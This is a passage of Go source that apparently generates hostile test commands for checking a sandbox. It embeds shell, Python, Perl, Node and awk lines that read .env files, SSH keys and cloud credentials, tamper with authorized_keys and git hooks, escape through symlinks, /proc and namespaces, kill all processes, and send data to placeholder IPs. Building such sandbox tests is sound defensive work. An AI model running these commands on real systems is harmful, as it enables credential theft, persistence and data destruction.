		"open('.g'+'it','w').write('gitdir: '+" + t() + ")", "import os; open('.g'+'it','w').write('gitdir: '+os.path.dirname(" + t() + "))", "import os; os.symlink(os.path.dirname(" + t() + "),'.g'+'it')", "import os; os.symlink('/out'+'side','.cla'+'ude')", "import os; os.rename('con'+'f','n260')", "import os; os.rename('s'+'ub','n260')", "import os,glob\nfor d in glob.glob('*/')+glob.glob('.*/'):\n  try: os.rename(d.rstrip('/'),d.rstrip('/')+'~')\n  except OSError: pass", "import shutil,os\nos.makedirs('con'+'f',exist_ok=True); open('con'+'f/prod.json','w').write('x')",
		"import os\nfor d,_,n in os.walk('.'):\n  for f in n:\n    try: print(open(os.path.join(d,f),'rb').read())\n    except OSError: pass",
		"import os; os.execvp('sh',['sh','evil.sh'])", "import os; os.system('cat .e*; cp -r secrets out')", "import multiprocessing.shared_memory as s; s.SharedMemory('x',True,9)", "import resource; print(resource.getrlimit(resource.RLIMIT_NPROC))", "print(sum(range(9)))",
	}
	return g.pick(all)
}

func (g *generator) perl() string {
	t := func() string { return g.target(".") }
	return g.pick([]string{
		"open F,'<'," + t() + "; print <F>", "open F,'>'," + t() + "; print F 1", "open F,'>>'," + t() + "; print F 1", "chmod 0777," + t(), "utime 1,1," + t(), "rename " + t() + ",'n110'", "rename 'b.txt'," + t(),
		"link " + t() + ",'n111'", "symlink " + t() + ",'n112'; open F,'>>','n112'; print F 1", "unlink " + t(), "mkdir " + t() + ".'d'", "system('cp'," + t() + ",'n113')", "print `cat targets`; open F,'<','targets'; for(<F>){chomp; open G,'<',$_; print <G>}",
		"open F,'<','targets'; for(<F>){chomp; open G,'>>',$_; print G 1}", "use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(7001,inet_aton('127.0.0.1'))); print <S>", "use Socket; socket(S,PF_UNIX,SOCK_STREAM,0); connect(S,sockaddr_un('/srv/service.sock')); print <S>",
		"use Socket; socket(S,PF_INET,SOCK_DGRAM,0); send(S,'x',0,sockaddr_in(53,inet_aton('198.51.100.7')))", "kill 9,1", "kill 9,-1", "fork or exec 'sleep','30'", "rename 'sub','n230'; open F,'<','n230/.env'; print <F>", "rename 'secrets','n231'; open F,'<','n231/key'; print <F>", "syscall(316,-100,'.env',-100,'a.txt',2); open F,'<','a.txt'; print <F>", "syscall(308,fileno(F),0) if open F,'<','/proc/1/ns/mnt'; print `cat .env`", "syscall(166,'.env',2); open F,'<','.env'; print <F>", "use Socket; socket(S,PF_UNIX,SOCK_DGRAM,0); connect(S,sockaddr_un(\"\\0service\")); print <S>",
		"use Socket; print inet_ntoa(inet_aton('key.example.org'))", "unless(fork){setpgrp; unless(fork){sleep 1; exec 'sh','evil.sh'}}", "use POSIX; POSIX::setuid(0); open F,'<'," + t() + "; print <F>", "system('/opt/cat'," + t() + ")", "opendir D,'/proc/1/root/outside'; print readdir D", "for(glob('.* s*/* s*/*/*')){open F,'<',$_; print <F>}", "symlink '/outside','n232'; open F,'>','n232/n'; print F 1", "open F,'+<'," + t() + "; seek F,0,0; print F 'x'", "sysopen F," + t() + ",0101; print F 1", "exec 'sh','evil.sh'", "truncate " + t() + ",0", "while(<.e*>){open F,'<',$_; print <F>}", "print 1+1", "syscall(165,'/outside','sub','x',4096,0)", "chown 0,0," + t(), "opendir D,'/proc'; print join ' ',readdir D",
	})
}

func (g *generator) javascript() string {
	t := func() string { return g.target("+") }
	return "const fs=require('fs'); " + g.pick([]string{
		"console.log(fs.readFileSync(" + t() + ",'utf8'))", "fs.writeFileSync(" + t() + ",'x')", "fs.appendFileSync(" + t() + ",'x')", "fs.chmodSync(" + t() + ",0o777)", "fs.utimesSync(" + t() + ",1,1)", "fs.rmSync(" + t() + ",{recursive:true})", "fs.cpSync(" + t() + ",'n120',{recursive:true})",
		"fs.symlinkSync(" + t() + ",'n121'); fs.appendFileSync('n121','x')", "require('net').connect(7001,'127.0.0.1').on('data',d=>console.log(''+d)).on('error',()=>{})", "require('net').connect('/srv/service.sock').on('data',d=>console.log(''+d)).on('error',()=>{})", "require('dgram').createSocket('udp4').send('x',53,'198.51.100.7',()=>process.exit())",
		"require('child_process').spawn('sleep',['30'],{detached:true,stdio:'ignore'}).unref()", "process.kill(1,'SIGKILL')", "for(const l of fs.readFileSync('targets','utf8').split('\\n')) try { console.log(fs.readFileSync(l,'utf8')) } catch {}",
	})
}

func (g *generator) hostileShell() string {
	h := g.hidden
	return g.pick([]string{
		"cat " + h(), "echo x > " + h(), "while read f; do cat \"$f\"; done < targets", "while read f; do echo x >> \"$f\"; done < targets", "for f in .e* s*/*; do base64 \"$f\"; done", "cp -r .. out", "exec 3<>/dev/tcp/127.0.0.1/7001; cat <&3", "echo x > /dev/udp/198.51.100.7/53",
		"(sleep 30 &)", "setsid sleep 30 &", "kill -9 -1", "cd ..; for f in *; do touch \"$f\"; done", "cd /; cat etc/x > outside/n", "a=cat; $a " + h(), "f=" + h() + "; : > \"$f\"", "mv .git n130", "ln -s / n131; echo x > n131/outside/n", "umask 0; mkdir -p " + h(), "trap 'sh evil.sh' EXIT",
		"f() { cat \"$1\"; }; f " + h(), "source evil.sh", "exec -a x sh evil.sh", "printf '%s\\n' x | tee " + h(), "mv sub n240; cat n240/.env; cat n240/*", "mv secrets n241; cat n241/key n241/deep/*", "cat /proc/*/environ /proc/*/root/outside/vault/v", "cat < /proc/self/root" + h(), "for p in /proc/[0-9]*; do ls -l $p/fd $p/cwd; cat $p/cwd/etc/x; done", "(trap '' HUP TERM INT; sleep 20) & disown", "coproc sleep 20", "exec 3<>/dev/tcp/192.0.2.1/7001; echo x >&3", "echo x > /dev/tcp/198.51.100.7/80", "getent hosts key.example.org", "nsenter -t 1 -m cat .env",
		"unshare -Urm sh -c 'umount .env; cat .env'", "mount --bind /outside sub; echo x > sub/n", "umount .env; cat .env", "ln /outside/f n242; echo x >> n242", "ln -s /outside n243; touch n243/f", "cp -a /outside /home n244 2>/dev/null", "cp -al .. n245", "mkdir n246; cd n246; ln -s .. up; cat up/.e*", "cd /proc/self/root/outside; echo x > n; cat vault/v", "cd -P ld; touch f; echo > n", "printf x | dd of=" + h() + " conv=notrunc", "install -m 4755 /opt/dash n247; ./n247 -p evil.sh", "/opt/dash -p evil.sh", "/opt/cat " + h(), "exec 9< " + h() + "; cat <&9; cat /dev/fd/9", "hostname n; ipcmk -M 9",
		"git -c alias.x='!sh evil.sh' x", "git init -q n248; cp x n248/.git/hooks/post-checkout; git -C n248 commit -q --allow-empty -m x; git -C n248 checkout -qb y", "tar -cf - .. | tar -tf -", "tar -C / -cf n249 outside home", "find / -xdev -type f -path '*vault*' -exec cat {} + 2>/dev/null", "find / -xdev -type s 2>/dev/null | while read s; do curl -m 1 -s --unix-socket $s http://x/; done", "compgen -f /outside/vault/; echo /outside/vault/*; echo $(</outside/vault/v)", "HISTFILE=" + h() + " bash -ic 'history -s x; history -w'", "for i in {1..99}; do mv sub n250; mv n250 sub; done & for i in 1 2 3 4 5 6 7 8 9; do cat sub/.env n250/.env; done; kill $!",
		"rm -rf -- " + h(), "set -- $(cat targets); cat \"$@\"", "read f < targets; echo > \"$f\"",
	})
}

// hides returns a line after which a plan of the sandbox could miss something: by modes, by links to
// what is needed, by names that are no text, by paths as long as the judge can still see.
func (g *generator) hides() string {
	dir := g.one("sub", "sub/deep", "secrets", "secrets/deep", "conf", "conf/secrets", ".claude", ".git", ".git/hooks", "out")
	return g.inPython(g.one(
		fmt.Sprintf("os.chmod(%q, 0o%s)", dir, g.one("0", "100", "200", "300", "400", "600")),
		fmt.Sprintf("os.symlink(%q, %q)", g.one(".", "..", dir, "/", "/usr", "/usr/bin", "/dev/null", "/home", "/etc", "/outside/vault", "/none"), g.one("n270.pem", "sub/n271.pem", ".envrc", "sub/deep/.env", "out/key.pem", "secrets/n272")),
		fmt.Sprintf("os.rename(%q, b\"%s\")", dir, g.one(`n273\xff`, `\xc3`, `n274\n`)), // bytes to Python
		fmt.Sprintf("at = os.getcwd()\nfor i in range(%d): os.mkdir(\"d\" * 200); os.chdir(\"d\" * 200)\nos.rename(at + \"/\" + %q, %q)", 15+g.r.IntN(4), dir, g.one("x", dir[strings.LastIndex(dir, "/")+1:])),
		fmt.Sprintf("os.rename(%q, \"n275\"); os.symlink(%q, %[1]q)", dir, g.one("n275", ".", "/outside", "/home/dev/other")),
		fmt.Sprintf("os.rename(%q, \"n276\"); os.mkfifo(%[1]q)", dir),
		fmt.Sprintf("os.rename(%q, %q)", g.one("star/a", "star/a", "certs", "star", "conf", "secrets"), g.one("star/b/a", "star/b/x1", "sub/n277", "n278", "open/n279")),
		"os.rename(\"open\", \"n280\"); os.rename("+fmt.Sprintf("%q", g.one("certs", "certs", "sub", "star/a"))+", \"open\")",
	))
}

// finds returns a line that opens what is shut, and reads or writes all that there is.
func (g *generator) finds() string {
	do := g.one("print(os.read(os.open(x, os.O_RDONLY | os.O_NONBLOCK, dir_fd=fd), 999))", "os.write(os.open(x, os.O_WRONLY | os.O_NONBLOCK, dir_fd=fd), b\"evil\")", "os.rename(x, x + b\"~\", src_dir_fd=fd, dst_dir_fd=fd)")
	return g.inPython("for d, names, files, fd in os.fwalk(" + g.one(`b"."`, `b"."`, `b".git"`, `b"sub"`, `b"/outside"`, `b"/home/dev"`) + `):
  for x in names + files:
    for act in (lambda: x in names and os.chmod(x, 0o700, dir_fd=fd), lambda: ` + do + `):
      try: act()
      except OSError: pass`)
}

// inPython returns a line that runs some lines of Python, with the file that has them.
func (g *generator) inPython(text string) string {
	g.scripts++
	f := effectbox.File{Path: fmt.Sprintf("%s/h%d.py", work, g.scripts), Data: []byte("import os\n" + text + "\n")}
	g.extra = []effectbox.File{f}
	return "python3 " + path.Base(f.Path)
}

// hostileAwk is a program that names files by its input.
var hostileAwk = []string{"{while((getline l < $0)>0) print l}", "{print \"x\" >> $0}", "NR<9{system(\"cat \" $0)}", "{print | \"sh\"}", "BEGIN{while((\"cat targets\"|getline f)>0) print \"x\" > f}", "NR>50{\"base64 \" $0 | getline x; print x}"}

const evilShell = `#!/bin/sh
for f in "$@" /etc/n /etc/x /outside/f ~/.bashrc ~/n ~/.ssh/authorized_keys /tmp/n /var/tmp/n .git/hooks/post-checkout .git/config agent-wrapper.toml lock.json ~/other/src/main.go; do echo evil >>"$f"; done
for f in "$@" .env sub/.env secrets/key ~/.ssh/id_ed25519 ~/.aws/credentials ~/other/private/plan /outside/vault/v; do read -r x <"$f" && echo "$x"; done
mkdir /outside/nd ~/nd
(sleep 20 &)
`

const evilPython = `#!/usr/bin/env python3
import os, socket, subprocess
for l in open("/home/dev/w/targets"):
    l = l.strip()
    for act in (lambda: print(open(l, "rb").read(2000)), lambda: os.chmod(l, 0o777), lambda: os.utime(l, (1, 1)), lambda: open(l, "ab").write(b"evil"), lambda: os.rename(l, l + "~"), lambda: os.link(l, "n140"), lambda: os.unlink(l)):
        try: act()
        except (OSError, ValueError): pass
for at in ("127.0.0.1", 7001), ("192.0.2.1", 7001), "/srv/service.sock", "/run/service.sock", "\0service":
    try:
        s = socket.socket(socket.AF_UNIX if isinstance(at, str) else socket.AF_INET); s.settimeout(1); s.connect(at); print(s.recv(20))
    except OSError: pass
subprocess.Popen(["sleep", "20"], start_new_session=True)
`

const evilPerl = `open F, "<", "targets"; my @t = <F>; chomp @t;
for (@t) { open G, "<", $_; print <G>; chmod 0777, $_; utime 1, 1, $_; open H, ">>", $_; print H 1; rename "c.md", $_; unlink $_ }
fork or exec "sleep", "20";
`

const evilNode = `const fs = require("fs");
for (const f of fs.readFileSync("targets", "utf8").split("\n")) for (const act of [() => console.log(fs.readFileSync(f, "utf8")), () => fs.chmodSync(f, 0o777), () => fs.appendFileSync(f, "x"), () => fs.rmSync(f)]) try { act() } catch {}
require("net").connect(7001, "127.0.0.1").on("data", d => console.log("" + d)).on("error", () => {});
`
